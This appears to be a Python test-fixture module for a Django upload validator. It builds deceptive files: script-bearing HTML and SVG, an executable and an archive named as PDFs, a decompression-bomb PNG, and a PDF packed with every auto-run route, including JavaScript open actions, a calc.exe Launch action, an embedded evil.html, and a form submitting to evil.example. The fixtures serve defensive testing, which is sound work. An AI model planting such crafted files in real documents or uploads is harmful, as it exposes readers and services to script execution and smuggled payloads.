"""Files that are not what they say, built byte by byte."""

import io
import struct
import zipfile
import zlib

import pikepdf
from django.core.files.uploadedfile import SimpleUploadedFile
from PIL import Image

from tests.scans import jpeg_bytes, pdf_bytes

PAGE = b"<!doctype html><html><body><script>alert(1)</script></body></html>"
SVG = b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'
HEIC = b"\x00\x00\x00\x18ftypheic\x00\x00\x00\x00mif1heic" + b"\x00" * 64
PROGRAM = b"MZ\x90\x00" + b"\x00" * 200


def upload(name: str, content: bytes, content_type: str = "application/pdf") -> SimpleUploadedFile:
    """As the browser sends it; Django itself would cut paths off the name, which is put back here."""
    made = SimpleUploadedFile("file", content, content_type)
    made._name = name
    return made


def archive() -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as made:
        made.writestr("hidden.html", PAGE)
    return buffer.getvalue()


def png_header(width: int, height: int) -> bytes:
    """A valid PNG of this size whose pixels would be megabytes of zeros: a few kilobytes on the wire."""

    def chunk(name: bytes, body: bytes) -> bytes:
        return struct.pack(">I", len(body)) + name + body + struct.pack(">I", zlib.crc32(name + body))

    row = zlib.compressobj(9)
    body = b"".join(row.compress(b"\x00" * (width // 8 + 1)) for _ in range(height)) + row.flush()
    head = struct.pack(">IIBBBBB", width, height, 1, 0, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head) + chunk(b"IDAT", body) + chunk(b"IEND", b"")


def jpeg_with_exif(orientation: int = 6, size: tuple[int, int] = (600, 400)) -> bytes:
    """A red left half and a blue right half, to be turned by EXIF, with a place and a comment in it."""
    image = Image.new("RGB", size, "blue")
    image.paste("red", (0, 0, size[0] // 2, size[1]))
    exif = Image.Exif()
    exif[0x0112] = orientation
    exif[0x010E] = "SECRET-PLACE"
    buffer = io.BytesIO()
    image.save(buffer, "JPEG", quality=90, exif=exif, comment="SECRET-COMMENT")
    return buffer.getvalue()


def locked_pdf(user: str = "open sesame") -> bytes:
    buffer = io.BytesIO()
    with pikepdf.open(io.BytesIO(pdf_bytes())) as pdf:
        pdf.save(buffer, encryption=pikepdf.Encryption(owner="owner", user=user))
    return buffer.getvalue()


def active_pdf() -> bytes:
    """Every way in which a PDF acts by itself, directly and through indirect objects."""
    buffer = io.BytesIO()
    with pikepdf.new() as pdf:
        pdf.add_blank_page(page_size=(595, 842))
        name, made = pikepdf.Name, pikepdf.Dictionary
        script = pdf.make_indirect(made(S=name.JavaScript, JS=b"app.alert(1)"))
        launch = made(S=name.Launch, F="calc.exe")
        pdf.Root.OpenAction = script
        pdf.Root.AA = made(WC=script)
        hidden = pdf.make_stream(PAGE)
        attached = pdf.make_indirect(made(Type=name.Filespec, F="evil.html", EF=made(F=hidden)))
        pdf.Root.Names = made(
            JavaScript=made(Names=["boot", script]), EmbeddedFiles=made(Names=["evil.html", attached])
        )
        pdf.Root.AF = [attached]
        button = made(
            FT=name.Btn, T="go", A=made(S=name.SubmitForm, F="https://evil.example/"), AA=made(U=script)
        )
        pdf.Root.AcroForm = pdf.make_indirect(
            made(Fields=[pdf.make_indirect(button)], XFA=pdf.make_stream(PAGE))
        )
        page = pdf.pages[0].obj
        page.AA = made(O=script)
        link = made(
            Type=name.Annot,
            Subtype=name.Link,
            Rect=[0, 0, 9, 9],
            A=made(S=name.GoTo, D=[page, name.Fit], Next=[launch, script]),
        )
        web = made(
            Type=name.Annot,
            Subtype=name.Link,
            Rect=[0, 0, 9, 9],
            A=made(S=name.URI, URI="javascript:alert(1)"),
        )
        rich = made(
            Type=name.Annot, Subtype=name.RichMedia, Rect=[0, 0, 9, 9], RichMediaContent=made(A=hidden)
        )
        clip = made(Type=name.Annot, Subtype=name.FileAttachment, Rect=[0, 0, 9, 9], FS=attached)
        page.Annots = [pdf.make_indirect(one) for one in (link, web, rich, clip)]
        pdf.save(buffer)
    return buffer.getvalue()


def everything_in(content: bytes) -> str:
    """All objects of a PDF as text, unpacked: what a reader could find in it."""
    out = io.BytesIO()
    with pikepdf.open(io.BytesIO(content)) as pdf:
        pdf.save(
            out,
            qdf=True,
            object_stream_mode=pikepdf.ObjectStreamMode.disable,
            stream_decode_level=pikepdf.StreamDecodeLevel.generalized,
        )
    return out.getvalue().decode("latin-1")


POLYGLOTS = {
    "a web page before the PDF": ("合同.pdf", PAGE + pdf_bytes()),
    "a web page called PDF": ("合同.pdf", PAGE),
    "a program called PDF": ("合同.pdf", PROGRAM),
    "an archive called PDF": ("合同.pdf", archive()),
    "a drawing called PNG": ("合同.png", SVG),
    "a web page called JPG": ("合同.jpg", PAGE),
    "only the first bytes of a JPG": ("合同.jpg", b"\xff\xd8\xff"),
    "only the first bytes of a PNG": ("合同.png", b"\x89PNG\r\n\x1a\n"),
    "a cut JPG": ("合同.jpg", jpeg_bytes()[:600]),
    "a PDF without a document": ("合同.pdf", b"%PDF-1.7\n" + PAGE),
}
